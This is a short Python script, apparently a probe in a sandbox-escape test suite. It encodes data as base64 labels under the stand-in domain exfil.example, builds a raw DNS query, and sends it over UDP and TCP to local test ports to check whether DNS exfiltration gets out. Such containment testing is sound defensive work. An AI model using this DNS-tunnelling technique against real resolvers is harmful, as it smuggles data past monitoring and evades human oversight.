"""Exfiltrate through DNS: a query whose name carries data, to a resolver outside the sandbox, over UDP and TCP."""
import socket
import struct
from escape import T, attempt, finish

NAME = "c3RvbGVuLWRhdGE.exfil.example"


def query():
    header = struct.pack(">HHHHHH", 0x4E4F, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in NAME.split(".")) + b"\0"
    return header + labels + struct.pack(">HH", 16, 1)


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(query(), ("127.0.0.1", T["dnsUdpPort"]))
    return "query sent"


def tcp():
    s = socket.create_connection(("127.0.0.1", T["dnsTcpPort"]), timeout=5)
    q = query()
    s.sendall(struct.pack(">H", len(q)) + q)
    return "query sent"


attempt("dns-udp", udp)
attempt("dns-tcp", tcp)
finish()
